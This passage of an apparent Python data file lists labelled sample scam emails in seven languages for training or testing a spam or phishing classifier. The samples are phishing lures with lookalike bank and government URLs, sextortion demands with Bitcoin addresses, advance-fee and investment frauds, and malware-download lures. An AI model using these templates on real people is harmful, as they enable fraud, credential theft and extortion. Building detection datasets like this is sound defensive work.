     "Ciao. Ho hackerato il tuo sistema operativo e ho accesso a tutti i tuoi account. Ho registrato un video mentre ti "
     "masturbavi guardando siti per adulti. Trasferisci 800 € in Bitcoin al mio portafoglio:\n\n"
     "bc1q4tz6xhsqg3g5cmv6zhktrmveu7ys8gvxkpex4l\n\nAltrimenti il video verrà inviato a tutti i tuoi contatti. Hai 48 ore.", None),
    ("it", "malware", "link", "Ufficio Amministrativo", "amministrazione@studio-ferri.example.net", "Fattura n. 472/2026 in scadenza",
     "Buongiorno,\n\nin allegato il link per scaricare la fattura n. 472/2026 in scadenza il 07/12.\n"
     "Scarica documento: https://archivio-fatture.download/FT_472_2026.zip\n\nCordiali saluti\nUfficio Amministrativo", None),
    ("it", "malware", "attach", "Bartolini Corriere", "tracking@example.org", "Bolla di consegna BRT",
     "Gentile cliente,\n\nin allegato la bolla di consegna della spedizione a Lei destinata. Aprire il file per visualizzare i dettagli.\n\nBRT", "BRT_bolla_consegna.html"),
    ("it", "spam", "pharmacy", "Farmacia Online", "promo@farmaci-online.example.com", "Cialis generico a 0,99 € a pillola",
     "Farmaci per la disfunzione erettile senza ricetta! Consegna discreta in 48 ore in tutta Italia.\n"
     "Ordina ora: http://farmacia-senza-ricetta.shop\n\nSconto del 20 % sul primo ordine.", None),
    ("it", "spam", "dating", "Elena", "elena.sola@example.net", "Sono sola stasera...",
     "Ciao tesoro, ho 31 anni e mi sono appena trasferita nella tua città. Cerco un uomo per incontri senza impegno. "
     "Guarda le mie foto e scrivimi qui: https://incontri-segreti.love/elena\n\nTi aspetto", None),
    # ===================== Dutch (nl)
    ("nl", "phishing", "bank", "ING", "klantenservice@ing-melding.example.net", "Uw betaalpas verloopt binnenkort",
     "Geachte heer/mevrouw,\n\nUw huidige betaalpas verloopt binnenkort. Om een nieuwe pas te ontvangen moet u uw gegevens controleren. "
     "Doet u dit niet voor 05-12-2026, dan wordt uw pas geblokkeerd.\n\nNieuwe pas aanvragen: https://ing-paspoort-vernieuwen.nl-klant.com/aanvraag\n\n"
     "Met vriendelijke groet,\nING Klantenservice", None),
    ("nl", "phishing", "gov", "DigiD", "noreply@digid-melding.example.org", "Uw DigiD wordt gedeactiveerd",
     "Beste burger,\n\nUw DigiD-account is langer dan 12 maanden niet gebruikt en wordt binnen 48 uur gedeactiveerd. "
     "Om uw account actief te houden, moet u uw gegevens opnieuw verifiëren.\n\nVerifieer: https://mijn-digid-verificatie.info/inloggen\n\nLogius", None),
    ("nl", "phishing", "parcel", "PostNL", "bezorging@pakket-status.example.com", "Uw pakket kon niet worden bezorgd",
     "Beste klant,\n\nWe hebben geprobeerd uw pakket te bezorgen, maar er stond een openstaand bedrag van € 1,95 aan verzendkosten open.\n"
     "Plan een nieuwe bezorging: https://postnl-bezorging-plannen.top/nl\n\nPostNL", None),
    ("nl", "phishing", "tax", "Belastingdienst", "teruggave@belasting-info.example.net", "Teruggave inkomstenbelasting 2025",
     "Belastingdienst\n\nU heeft recht op een teruggave van € 512,30 over het belastingjaar 2025. "
     "Door een fout in onze administratie kon het bedrag niet worden overgemaakt. Bevestig uw rekeningnummer via iDEAL (€ 0,01).\n\n"
     "https://belastingdienst-teruggave.org.nl.co/ideal", None),
    ("nl", "scam", "advance", "Dr. Samuel Okoro", "samuel.okoro.un@example.org", "Compensatiefonds van de Verenigde Naties",
     "Beste begunstigde,\n\nU bent geselecteerd voor een compensatiebetaling van $ 1.500.000 uit het fonds voor slachtoffers van internetfraude. "
     "Om de overdracht te voltooien moet u de registratiekosten van $ 480 voldoen.\n"
     "Stuur ons uw volledige naam, adres en een kopie van uw paspoort.\n\nDr. Samuel Okoro", None),
    ("nl", "scam", "prize", "Postcode Loterij", "winnaar@loterij-uitslag.example.com", "U heeft € 25.000 gewonnen!",
     "Gefeliciteerd! Uw postcode is getrokken in de extra trekking van deze maand. U wint € 25.000,-.\n"
     "Om uw prijs uit te laten betalen, moet u een eenmalige administratievergoeding van € 29,95 betalen.\n\n"
     "Bel de prijzenafdeling: 0900 000 0000 (€ 0,90 p/m)", None),
    ("nl", "scam", "invest", "Crypto Nieuws", "redactie@beleggen-vandaag.example.net", "Nederlanders worden rijk met deze nieuwe app",
     "Deze methode wordt door banken gehaat: met een startinvestering van € 250 verdienen gewone Nederlanders duizenden euro's per week "
     "met automatische Bitcoin-handel.\n\nBekijk het bewijs: https://crypto-winst-nl.site/video\n\nOp = op!", None),
    ("nl", "scam", "callback", "Microsoft Support", "alert@windows-beveiliging.example.org", "Uw licentie is verlopen – actie vereist",
     "Waarschuwing! Uw Windows-licentie is verlopen en uw computer is geïnfecteerd met 3 virussen. "
     "Uw bankgegevens lopen gevaar.\n\nBel onmiddellijk de Microsoft-helpdesk: +31 20 000 0000\nNiet uitschakelen of herstarten.", None),
    ("nl", "scam", "sextortion", "", "sanne.devries@example.com", "Betaling vereist",
     "Hallo, ik heb je computer gehackt en heb je gefilmd via je webcam terwijl je pornosites bezocht. "
     "Stuur 1000 euro in Bitcoin naar dit adres:\nbc1qe5gzf0xxaseee8x7s8t7nmlxlelxdydvhcafnc\n\n"
     "Als ik binnen 48 uur niets ontvang, stuur ik de video naar al je contacten.", None),
    ("nl", "malware", "link", "Facturatie", "facturen@installatiebedrijf-jansen.example.com", "Openstaande factuur 2026-0881",
     "Goedemiddag,\n\nVolgens onze administratie staat factuur 2026-0881 (€ 1.612,50) nog open. "
     "U kunt de factuur hier downloaden: https://bestanden-delen.icu/factuur_2026_0881.exe\n\nMet vriendelijke groet,\nAdministratie Jansen", None),
    ("nl", "malware", "attach", "Scan", "scanner@example.net", "Gescand document van Printer",
     "Document gescand op 03-12-2026 10:14.\nAantal pagina's: 3\nBestandsformaat: ZIP\n\nOpen de bijlage om het document te bekijken.", "Scan_03122026.zip"),
    ("nl", "spam", "loan", "Snel Geld", "lening@geld-direct.example.org", "Direct € 5.000 lenen zonder BKR-toetsing",
     "Lenen zonder BKR-toetsing? Het kan! Binnen 24 uur het geld op je rekening, ook met een negatieve registratie.\n"
     "Vraag aan: http://lening-zonder-bkr.site\n\nLet op! Geld lenen kost geld.", None),
    ("nl", "spam", "seo", "Daan", "daan@webdesign-bureau.example.com", "Samenwerking?",
     "Hoi,\n\nIk zag dat jullie website niet helemaal mobielvriendelijk is en traag laadt. "
     "Wij bouwen professionele websites vanaf € 499 en zorgen dat je hoger in Google komt.\n"
     "Zullen we volgende week even bellen?\n\nGroet,\nDaan", None),
    # ===================== Polish (pl)
    ("pl", "phishing", "bank", "PKO Bank Polski", "powiadomienia@bank-komunikat.example.com", "Wymagana weryfikacja konta iPKO",
     "Szanowny Kliencie,\n\nW związku z nowymi przepisami bezpieczeństwa konieczna jest weryfikacja Twojego konta. "
     "Brak weryfikacji w ciągu 24 godzin spowoduje czasowe zablokowanie dostępu do bankowości elektronicznej.\n\n"
     "Zweryfikuj teraz: https://ipko-weryfikacja-klienta.com.pl.co/logowanie\n\nZespół PKO BP", None),
    ("pl", "phishing", "marketplace", "OLX", "platnosci@olx-transakcja.example.net", "Kupujący opłacił Twój przedmiot",
     "Dzień dobry,\n\nKupujący opłacił Twój przedmiot \"Rower górski Kross\" kwotą 1 250 zł w ramach usługi Przesyłka OLX. "
     "Aby otrzymać środki, wprowadź dane swojej karty na stronie odbioru płatności.\n\n"
     "Odbierz środki: https://olx-odbior-platnosci.shop/pl/12770\n\nZespół OLX", None),
    ("pl", "phishing", "parcel", "InPost", "info@paczka-dostawa.example.org", "Twoja paczka czeka na dopłatę",
     "Twoja paczka nr 6800 1234 5678 nie może zostać dostarczona do Paczkomatu z powodu niedopłaty 1,49 zł.\n"
     "Dokonaj płatności, aby paczka nie wróciła do nadawcy: https://inpost-doplata.online/paczka\n\nInPost", None),
    ("pl", "phishing", "utility", "PGE Obrót", "faktury@energia-pge.example.com", "Odłączenie energii elektrycznej dziś o 21:00",
     "Szanowny Kliencie,\n\nz powodu nieopłaconej faktury za energię (kwota 7,12 zł) Twoja instalacja zostanie dziś odłączona o godzinie 21:00.\n"
     "Aby uniknąć odłączenia, opłać zaległość: https://pge-platnosc-faktura.info/oplata\n\nDział Windykacji", None),
    ("pl", "phishing", "tax", "Krajowa Administracja Skarbowa", "zwrot@e-urzad-podatek.example.net", "Zwrot nadpłaty podatku PIT",
     "Szanowny Podatniku,\n\nTwoje zeznanie PIT-37 za 2025 rok zostało rozliczone. Przysługuje Ci zwrot nadpłaty w wysokości 842,00 zł. "
     "W celu otrzymania środków potwierdź dane rachunku bankowego w e-Urzędzie Skarbowym.\n\n"
     "https://podatki-gov-zwrot.com/e-urzad\n\nKrajowa Administracja Skarbowa", None),
    ("pl", "scam", "advance", "Mr. David Williams", "dwilliams.fund@example.org", "Pilna i poufna wiadomość",
     "Drogi przyjacielu,\n\nJestem dyrektorem banku w Londynie. Znalazłem uśpione konto o wartości 9 800 000 USD należące do zmarłego klienta "
     "bez spadkobierców. Potrzebuję zagranicznego partnera, aby przelać te środki. Otrzymasz 45 %.\n"
     "Proszę o odpowiedź z imieniem, nazwiskiem i numerem telefonu.\n\nZ poważaniem\nDavid Williams", None),
    ("pl", "scam", "prize", "Biedronka Konkurs", "nagrody@konkurs-biedronka.example.com", "Wygrałeś bon 1000 zł!",
     "Gratulacje! Twój adres e-mail został wylosowany w konkursie z okazji rocznicy sieci. Wygrywasz bon o wartości 1000 zł.\n"
     "Aby odebrać nagrodę, wypełnij ankietę i opłać koszt wysyłki 4,99 zł: https://bon-biedronka-nagroda.click/odbierz", None),
    ("pl", "scam", "invest", "Inwestycje Orlen", "kontakt@inwestuj-pl.example.net", "Zarabiaj od 6000 zł miesięcznie inwestując w akcje Orlen",
     "Nowy program dla obywateli Polski! Zainwestuj tylko 1000 zł i otrzymuj stały dochód pasywny. "
     "Nasz doradca finansowy zadzwoni do Ciebie w ciągu 15 minut po rejestracji.\n\n"
     "Zarejestruj się: https://orlen-inwestycje-polska.pro/start", None),
    ("pl", "scam", "sextortion", "", "katarzyna.nowak@example.com", "Mam twoje nagranie",
     "Witaj. Mam dostęp do Twojego urządzenia od kilku miesięcy. Nagrałem Cię kamerą, gdy oglądałeś strony dla dorosłych.\n"
     "Jeśli nie chcesz, żeby nagranie trafiło do Twoich znajomych, prześlij 2500 zł w Bitcoin na adres:\n"
     "bc1qfwq060kswn8ne6z8n7z89cftx5kry7gf264p6p\nMasz 48 godzin od przeczytania tej wiadomości.", None),
    ("pl", "malware", "link", "Księgowość", "ksiegowosc@hurtownia-budmat.example.org", "Faktura VAT 11/2026/FV/0382",
     "Dzień dobry,\n\nw załączeniu przesyłam fakturę VAT nr 11/2026/FV/0382 do zapłaty. Plik jest zbyt duży, dlatego udostępniam go przez link:\n"
     "https://pliki-faktury.cam/FV_0382.zip\n\nPozdrawiam\nAnna Kowalczyk", None),
    ("pl", "malware", "attach", "Kancelaria Komornicza", "komornik@example.net", "Zawiadomienie o wszczęciu egzekucji",
     "Uprzejmie zawiadamiam o wszczęciu postępowania egzekucyjnego. Szczegóły sprawy oraz tytuł wykonawczy w załączniku.\n"
     "Brak wpłaty w terminie 7 dni skutkować będzie zajęciem rachunku bankowego.\n\nKomornik Sądowy", "Zawiadomienie_KM_1182_26.iso"),
    ("pl", "spam", "loan", "Pożyczka Online", "oferta@szybka-gotowka.example.com", "Pożyczka 0 % bez BIK – decyzja w 15 minut",
     "Pierwsza pożyczka do 5000 zł za darmo! Bez zaświadczeń i bez sprawdzania w BIK.\n"
     "Złóż wniosek: http://pozyczka-bez-bik.site\n\nRRSO 0 %.", None),
    ("pl", "spam", "b2b", "Tomasz z firmy LeadPro", "tomasz@leadpro.example.org", "Pozyskanie klientów B2B dla Twojej firmy",
     "Dzień dobry,\n\nPomagamy firmom takim jak Państwa pozyskać 20-30 nowych spotkań handlowych miesięcznie dzięki kampaniom cold mailingowym. "
     "Czy mogę przesłać krótką ofertę?\n\nJeśli temat nie jest aktualny, proszę odpisać \"nie\".\n\nTomasz", None),
    # ===================== Russian (ru)
    ("ru", "phishing", "bank", "СберБанк", "info@sber-uvedomlenie.example.net", "Ваша карта заблокирована",
     "Уважаемый клиент!\n\nПо вашей карте зафиксирована подозрительная операция на сумму 48 900 руб. В целях безопасности карта временно заблокирована.\n"
     "Для разблокировки подтвердите данные карты по ссылке: https://sberbank-online-podtverzhdenie.ru.com/card\n\n"
     "Служба безопасности СберБанка", None),
    ("ru", "phishing", "gov", "Госуслуги", "noreply@gosuslugi-info.example.org", "Подтвердите учетную запись Госуслуг",
     "Уважаемый пользователь!\n\nВаша учетная запись будет удалена в связи с изменением законодательства, если вы не подтвердите её в течение 24 часов.\n\n"
     "Подтвердить: https://gosuslugi-podtverdit.online/login\n\nПортал государственных услуг", None),
    ("ru", "phishing", "parcel", "СДЭК", "dostavka@cdek-posylka.example.com", "Посылка ожидает оплаты доставки",
     "Здравствуйте!\n\nВаша посылка № 1488203771 прибыла в пункт выдачи, но доставка не оплачена (149 руб.). "
     "Оплатите доставку в течение 2 дней, иначе посылка вернётся отправителю.\n\nОплатить: https://cdek-oplata-dostavki.site/pay", None),
    ("ru", "phishing", "tax", "ФНС России", "nalog@fns-vozvrat.example.net", "Вам положена компенсация налога",
     "Федеральная налоговая служба уведомляет: вам начислен налоговый вычет в размере 13 870 руб.\n"
     "Для получения выплаты заполните заявление и укажите номер банковской карты.\n\n"
     "Заполнить заявление: http://nalog-gov-vychet.com/lk\n\nС уважением, ФНС России", None),
    ("ru", "scam", "advance", "Адвокат Игорь Смирнов", "smirnov.advokat@example.org", "Наследство вашего родственника",
     "Добрый день!\n\nЯ адвокат покойного предпринимателя, у которого та же фамилия, что и у вас. После его смерти остался вклад "
     "в размере 3 400 000 евро, наследников нет. Предлагаю оформить вас как наследника, сумму разделим пополам.\n"
     "Сделка полностью законна. Ответьте на это письмо, указав ФИО и номер телефона.\n\nС уважением, Игорь Смирнов", None),
    ("ru", "scam", "prize", "Wildberries", "priz@wb-rozygrysh.example.com", "Поздравляем! Вы выиграли 150 000 рублей",
     "Вы стали победителем ежегодного розыгрыша среди покупателей! Ваш выигрыш: 150 000 руб.\n"
     "Для получения приза необходимо оплатить комиссию за перевод 390 руб.\n\nПолучить: https://wb-priz-pobeditel.click/poluchit", None),
    ("ru", "scam", "invest", "Газпром Инвестиции", "invest@gazprom-dohod.example.net", "Пассивный доход от 80 000 руб. в месяц",
     "Каждый гражданин России может получать доход от акций Газпрома! Минимальная сумма инвестиций — 20 000 руб.\n"
     "Оставьте заявку, и наш финансовый аналитик перезвонит вам в течение часа.\n\nhttps://gazprom-investicii-rf.pro/zayavka", None),
    ("ru", "scam", "callback", "Служба безопасности банка", "security.bank@example.com", "Оформлена заявка на кредит 350 000 руб.",
     "На ваше имя оформлена заявка на потребительский кредит на сумму 350 000 руб.\n"
     "Если вы не подавали заявку, немедленно позвоните в службу безопасности по номеру 8 800 000-00-00 для отмены операции. "
     "Не сообщайте никому о данном обращении.", None),
    ("ru", "scam", "sextortion", "", "elena.ivanova@example.com", "Последнее предупреждение",
     "Привет. Я взломал твоё устройство несколько месяцев назад и записал видео через камеру, когда ты смотрел сайты для взрослых.\n"
     "Чтобы я удалил видео, отправь 600 долларов в биткоинах на этот адрес:\nbc1qqlzws58r2kqfkwj25pa48hq9pn9wtvpww6wapg\n\n"
     "У тебя 48 часов. Иначе видео получат все твои контакты.", None),
    ("ru", "malware", "link", "Бухгалтерия", "buh@stroy-komplekt.example.org", "Акт сверки за 4 квартал",
     "Добрый день!\n\nНаправляем акт сверки взаимных расчётов за 4 квартал. Просим проверить, подписать и вернуть.\n"
     "Скачать документ: https://disk-dokumenty.top/akt_sverki_Q4.zip\n\nС уважением,\nглавный бухгалтер", None),
    ("ru", "malware", "attach", "Арбитражный суд", "info@example.net", "Исковое заявление - ознакомьтесь",
     "Уведомляем вас о поступлении искового заявления в отношении вашей организации. Материалы дела во вложении.\n"
     "Пароль к архиву: 1234", "Iskovoe_zayavlenie.zip"),
    ("ru", "spam", "seo", "Продвижение сайтов", "seo@top10-prodvizhenie.example.com", "Выведем ваш сайт в ТОП-10 Яндекса",
     "Здравствуйте!\n\nПродвижение сайтов в ТОП-10 Яндекс и Google с гарантией результата. Первые заявки уже через 2 недели.\n"
     "Аудит сайта — бесплатно. Звоните: 8 800 000-00-01 или ответьте на это письмо.", None),
    ("ru", "spam", "b2b", "Базы данных", "baza@kontakty-firm.example.org", "Базы данных предприятий России 2026",
     "Продаём актуальные базы организаций по всем регионам: телефоны, e-mail, ИНН, руководители.\n"
     "Скидка 50 % до конца недели. Для отписки ответьте «стоп».", None),
    # ===================== Turkish (tr)
    ("tr", "phishing", "bank", "Ziraat Bankası", "bildirim@ziraat-guvenlik.example.com", "Hesabınız askıya alındı",
     "Değerli müşterimiz,\n\nHesabınızda olağan dışı işlem tespit edilmiştir. Güvenliğiniz için internet şubeniz geçici olarak askıya alınmıştır.\n"
     "Hesabınızı tekrar aktif etmek için bilgilerinizi doğrulayınız:\n\nhttps://ziraat-internet-sube-dogrulama.com.tr.co/giris\n\nZiraat Bankası", None),
    ("tr", "phishing", "toll", "HGS Bilgilendirme", "hgs@ceza-sorgu.example.net", "HGS geçiş ihlali: ödenmemiş cezanız bulunmaktadır",
     "Sayın araç sahibi,\n\nAracınıza ait ödenmemiş köprü ve otoyol geçiş ücreti bulunmaktadır (toplam 184,50 TL). "
     "15 gün içinde ödenmemesi halinde 10 katı ceza uygulanacaktır.\n\nSorgula ve öde: https://hgs-ihlal-odeme.site/sorgu", None),
    ("tr", "phishing", "parcel", "PTT Kargo", "kargo@ptt-teslimat.example.org", "Kargonuz teslim edilemedi",
     "Sayın alıcı, RR118820931TR numaralı gönderiniz adres bilgisinin eksik olması nedeniyle teslim edilememiştir.\n"
     "Adresinizi güncellemek ve 9,90 TL gümrük ücretini ödemek için: https://ptt-kargo-takip.top/adres\n\nPTT A.Ş.", None),
    ("tr", "phishing", "gov", "e-Devlet", "destek@edevlet-bilgi.example.com", "Tarafınıza 2.850 TL destek ödemesi tanımlanmıştır",
     "Sayın vatandaşımız,\n\nAile ve Sosyal Hizmetler Bakanlığı tarafından tarafınıza 2.850 TL destek ödemesi tanımlanmıştır. "
     "Ödemenin hesabınıza aktarılması için kart bilgilerinizi doğrulayınız.\n\nhttps://turkiye-gov-destek-basvuru.online/basvur", None),
    ("tr", "scam", "advance", "Av. Mehmet Yılmaz", "mehmet.yilmaz.hukuk@example.org", "Gizli iş teklifi",
     "Merhaba,\n\nBen uluslararası bir hukuk bürosunda avukatım. Aynı soyadını taşıdığınız müvekkilim vefat etti ve 5,5 milyon dolarlık bir miras bıraktı. "
     "Sizi yasal varis olarak göstermek istiyorum, tutarı yarı yarıya paylaşacağız.\n"
     "Lütfen adınızı, telefon numaranızı ve kimlik fotokopinizi gönderin.\n\nSaygılarımla", None),
    ("tr", "scam", "prize", "Turkcell Kampanya", "kampanya@hediye-cekilis.example.net", "Tebrikler! iPhone 16 kazandınız",
     "Yılbaşı çekilişimizde numaranız kazanan olarak belirlendi! Hediyenizi almak için sadece 29,90 TL kargo ücreti ödemeniz gerekmektedir.\n"
     "Hediyeni al: https://turkcell-hediye-kazan.click/al\n\nKampanya bugün sona eriyor.", None),
    ("tr", "scam", "invest", "Borsa Uzmanı", "analist@yatirim-firsati.example.com", "THY hisseleriyle ayda 45.000 TL kazanın",
     "Devletin yeni yatırım programı ile sadece 5.000 TL yatırarak her ay düzenli gelir elde edebilirsiniz. "
     "Uzman danışmanlarımız sizi arayacak.\n\nHemen kayıt ol: https://thy-yatirim-programi.pro/kayit", None),
    ("tr", "scam", "callback", "Banka Güvenlik Birimi", "guvenlik.birimi@example.net", "Kartınızdan 12.499 TL harcama yapıldı",
     "Kartınızdan TEKNOLOJİ MAĞAZASI'na 12.499,00 TL tutarında harcama onaylanmıştır.\n"
     "Bu işlemi siz yapmadıysanız, iptal için hemen 0850 000 00 00 numaralı müşteri hizmetlerimizi arayınız.", None),
    ("tr", "scam", "sextortion", "", "ayse.demir@example.com", "Hesabınız ele geçirildi",
     "Merhaba, cihazına birkaç ay önce virüs yükledim ve kameranla yetişkin sitelerini izlerken seni kaydettim.\n"
     "Bu videonun tüm kişilerine gönderilmesini istemiyorsan 700 dolar değerinde Bitcoin gönder:\n"
     "bc1qe486xlc24sgw45khn26zdkz5reherk6jcgz9uq\n\n48 saatin var.", None),
    ("tr", "malware", "link", "Muhasebe", "muhasebe@insaat-malzeme.example.org", "Fatura bilgilendirme - Kasım 2026",
     "Merhaba,\n\nKasım ayına ait faturanızı aşağıdaki bağlantıdan indirebilirsiniz. Ödemenin 7 gün içinde yapılmasını rica ederiz.\n"
     "https://e-fatura-indir.shop/kasim_2026_fatura.exe\n\nİyi çalışmalar", None),
    ("tr", "malware", "attach", "Satın Alma", "satinalma@example.com", "Sipariş talebi - acil",
     "Merhaba,\n\nEkteki sipariş listesi için fiyat teklifinizi bugün gönderebilir misiniz? Teslim süresini de belirtiniz.\n\nSaygılarımızla", "Siparis_listesi_PO8812.zip"),
    ("tr", "spam", "betting", "Bahis Bonus", "bonus@casino-giris.example.net", "%100 hoşgeldin bonusu + 250 freespin",
     "Yeni üyelere özel %100 yatırım bonusu! Kayıp bonusu, anında çekim, 7/24 canlı destek.\n"
     "Güncel giriş adresi: https://bahis-guncel-giris.bet\n\nÜyelikten çıkmak için cevaplayın.", None),
    ("tr", "spam", "loan", "Kredi Danışmanı", "kredi@hizli-kredi.example.org", "Sicil affı ile 100.000 TL kredi",
     "Kara listede olanlara bile kredi imkanı! Evrak yok, kefil yok, aynı gün onay.\n"
     "Başvuru için WhatsApp: +90 500 000 00 00", None),
    # ===================== Chinese, simplified (zh)
    ("zh", "phishing", "bank", "中国工商银行", "service@icbc-tongzhi.example.net", "【工商银行】您的账户存在异常，请立即验证",
     "尊敬的客户：\n\n系统检测到您的账户存在异常登录行为，为保障资金安全，您的网银已被临时冻结。\n"
     "请于24小时内完成身份验证，逾期将永久停用：\nhttps://icbc-yanzheng-kehu.com.cn.co/login\n\n中国工商银行 客户服务中心", None),
    ("zh", "phishing", "mail", "企业邮箱管理员", "admin@mail-upgrade.example.org", "关于企业邮箱系统升级的通知",
     "各位同事：\n\n因公司邮箱系统升级，所有员工须在12月5日前重新验证账号，否则邮箱将无法正常收发邮件。\n"
     "验证地址：http://exmail-shengji-yanzheng.top/verify\n\n请务必按时完成。\n信息技术部", None),
    ("zh", "phishing", "tax", "国家税务总局", "tax@shuiwu-butie.example.com", "关于2026年度个人所得税补贴申报的通知",
     "全体员工：\n\n根据国家税务总局最新通知，2026年度个人所得税补贴现已开始申报，请于本周五前完成申领，逾期视为自动放弃。\n"
     "申报入口：https://gerenshui-butie-shenbao.site/index\n\n财务部", None),
    ("zh", "phishing", "parcel", "顺丰速运", "kuaidi@sf-paisong.example.net", "您的快递因地址不详无法派送",
     "您好，您的快递（运单号SF1402298817733）因地址信息不完整无法派送，请在48小时内更新地址并支付2元改派费用。\n"
     "点击处理：https://sf-express-gaipai.online/update\n\n逾期包裹将被退回。", None),
    ("zh", "scam", "advance", "王律师", "wang.lawyer.hk@example.org", "关于一笔无人认领遗产的机密合作",
     "您好！\n\n我是香港一家律师事务所的律师。我的一位已故客户留下了一笔1,200万美元的存款，无任何继承人。由于您与他同姓，"
     "我希望将您登记为合法受益人，所得款项我们五五分成。此事完全合法、无任何风险。\n请回复您的全名、电话和身份证复印件。\n\n王律师", None),
    ("zh", "scam", "prize", "京东幸运抽奖", "choujiang@jd-zhongjiang.example.com", "恭喜您获得年终回馈大奖！",
     "尊敬的会员：恭喜您在京东年终抽奖活动中获得二等奖，奖品为现金8,888元及华为手机一部。\n"
     "请添加客服微信领取奖品，领奖前需缴纳个人所得税及手续费580元。客服微信：jd-lingjiang-2026", None),
    ("zh", "scam", "invest", "李老师", "li.laoshi.touzi@example.net", "内部消息：带你稳赚不赔",
     "您好，我是资深投资导师李老师。我们的股票交流群每天分享内部消息，跟着操作月收益30%以上，已有上千名学员翻倍。\n"
     "现在免费加入，名额有限。加微信：licaiguwen888，备注「股票」即可进群。", None),
    ("zh", "scam", "callback", "支付宝客服", "kefu@alipay-tuikuan.example.org", "您购买的商品存在质量问题，可申请三倍赔偿",
     "尊敬的用户：您好！您近期在平台购买的商品被检测出质量问题，商家已同意为您办理三倍理赔。\n"
     "请尽快拨打理赔专线 400-000-0000 联系客服办理退款，过期无效。", None),
    ("zh", "scam", "sextortion", "", "zhang.wei@example.com", "我已经控制了你的设备",
     "你好，几个月前我通过木马入侵了你的电脑，并在你浏览成人网站时用摄像头录下了视频。我还拿到了你所有联系人的信息。\n"
     "如果不想让视频发给你的亲友和同事，请在48小时内向以下比特币地址支付1000美元：\n"
     "bc1qd2yf3njxweghky89tvak7cxk8hzjgx09evfpk0\n\n不要报警，否则后果自负。", None),
    ("zh", "malware", "link", "财务部", "caiwu@maoyi-gongsi.example.com", "12月工资明细及补贴调整通知",
     "各位同事好：\n\n12月份工资明细及年终补贴调整方案已发布，请下载查看并确认个人信息：\n"
     "https://wenjian-xiazai.xyz/gongzi_mingxi_12yue.zip\n\n财务部", None),
    ("zh", "malware", "attach", "采购部 张经理", "purchase@example.net", "询价单-请尽快报价",
     "您好，\n\n附件是我司本月的询价单，请查收并于明天下班前回复报价，谢谢！\n\n张经理\n采购部", "询价单_RFQ20261203.iso"),
    ("zh", "spam", "invoice", "财税服务", "fapiao@daikai-fuwu.example.org", "代开各类正规发票",
     "您好！本公司长期代开全国各地增值税发票、普通发票，点数优惠，可先验票后付款。\n"
     "联系人：陈经理 电话：138 0000 0000 微信同号", None),
    ("zh", "spam", "b2b", "外贸获客", "sales@waimao-kehu.example.com", "外贸企业精准客户开发，一个月询盘翻倍",
     "老板您好，我们专注于外贸企业海外客户开发，提供海关数据、谷歌SEO和邮件营销服务，助您一个月询盘翻倍。\n"
     "免费试用三天，详情回复本邮件。退订请回复TD。", None),
    # ===================== Korean (ko)
    ("ko", "phishing", "bank", "KB국민은행", "notice@kb-anjeon.example.net", "[KB국민은행] 고객님의 계정이 일시 정지되었습니다",
     "고객님, 안녕하십니까.\n\n고객님의 계좌에서 비정상적인 로그인 시도가 감지되어 인터넷뱅킹 이용이 일시 정지되었습니다.\n"
     "24시간 이내에 본인 인증을 완료하지 않으면 계좌가 영구 정지됩니다.\n\n본인 인증하기: https://kbstar-inzeung.co.kr.com/verify\n\nKB국민은행 고객센터", None),
    ("ko", "phishing", "portal", "NAVER", "security@naver-boan.example.org", "[NAVER] 해외 로그인 차단 안내",
     "회원님의 아이디로 해외(러시아)에서 로그인 시도가 있어 차단되었습니다.\n"
     "본인이 아닌 경우 아래 링크에서 비밀번호를 즉시 변경해 주세요.\n\nhttps://nid-naver-boho.online/login\n\n네이버 고객센터", None),
    ("ko", "phishing", "parcel", "CJ대한통운", "delivery@cj-baesong.example.com", "[CJ대한통운] 주소 불명으로 배송이 보류되었습니다",
     "고객님의 택배(운송장번호 6401-2298-8177)가 주소 불명으로 배송 보류 중입니다.\n"
     "주소를 수정하지 않으면 3일 후 반송 처리됩니다.\n주소 수정: https://cj-juso-sujeong.top/kr", None),
    ("ko", "phishing", "tax", "국세청", "hometax@nts-hwangeub.example.net", "[국세청] 종합소득세 환급금 미수령 안내",
     "국세청입니다.\n\n귀하께서는 2025년 귀속 종합소득세 환급금 287,500원을 아직 수령하지 않으셨습니다.\n"
     "환급 신청 기한이 12월 10일까지이오니 아래에서 계좌 정보를 입력해 주시기 바랍니다.\n\n"
     "환급 신청: https://hometax-hwangeub.site/apply", None),
    ("ko", "scam", "advance", "James Park 변호사", "jpark.attorney@example.org", "상속 관련 긴급 연락",
     "안녕하세요.\n\n저는 해외 로펌의 변호사입니다. 귀하와 같은 성을 가진 제 고객이 사망하면서 850만 달러의 예금을 남겼으나 상속인이 없습니다.\n"
     "귀하를 법적 상속인으로 등록하고 금액을 반씩 나누고자 합니다. 성함과 연락처를 회신해 주십시오.", None),
    ("ko", "scam", "prize", "이벤트 당첨 안내", "event@dangchum-gift.example.com", "축하드립니다! 갤럭시 S26 당첨",
     "고객님께서 연말 감사 이벤트에 당첨되셨습니다! 경품 수령을 위해 배송비 3,000원만 결제해 주세요.\n"
     "경품 받기: https://galaxy-dangchum.click/receive\n\n오늘 자정까지 미수령 시 자동 취소됩니다.", None),
    ("ko", "scam", "invest", "주식 리딩방", "vip@jusik-leading.example.net", "[무료] 급등주 정보 공유방 초대",
     "매일 급등주 3종목 무료 공개! 지난달 평균 수익률 217%.\n"
     "전문가의 실시간 리딩으로 원금 보장, 하루 30분 투자로 월 1,000만원 수익.\n"
     "카카오톡 오픈채팅 '수익왕'으로 지금 입장하세요.", None),
    ("ko", "scam", "callback", "쿠팡 결제 안내", "order@coupang-gyeolje.example.org", "[해외결제] 978,000원 승인 완료",
     "[국외발신] 고객님 카드로 978,000원 해외결제가 승인되었습니다.\n"
     "본인이 결제하지 않은 경우 소비자보호센터 1600-0000으로 즉시 연락 바랍니다.", None),
    ("ko", "scam", "sextortion", "", "minji.kim@example.com", "당신의 영상을 가지고 있습니다",
     "안녕하세요. 몇 달 전 당신의 기기를 해킹했고, 성인 사이트를 보는 동안 웹캠으로 영상을 녹화했습니다.\n"
     "영상을 모든 연락처에 보내지 않기를 원한다면 48시간 안에 다음 비트코인 주소로 1,000달러를 보내십시오:\n"
     "bc1qjvjqyt8mjkaa6vzwhx7ueyxu7l70vwd37p2de0\n\n경찰에 신고하면 즉시 유포합니다.", None),
    ("ko", "malware", "link", "회계팀", "account@muyeok-hoesa.example.com", "세금계산서 발행 안내 (2026년 11월분)",
     "안녕하세요. 11월분 전자세금계산서가 발행되었습니다. 아래 링크에서 내려받아 확인 부탁드립니다.\n"
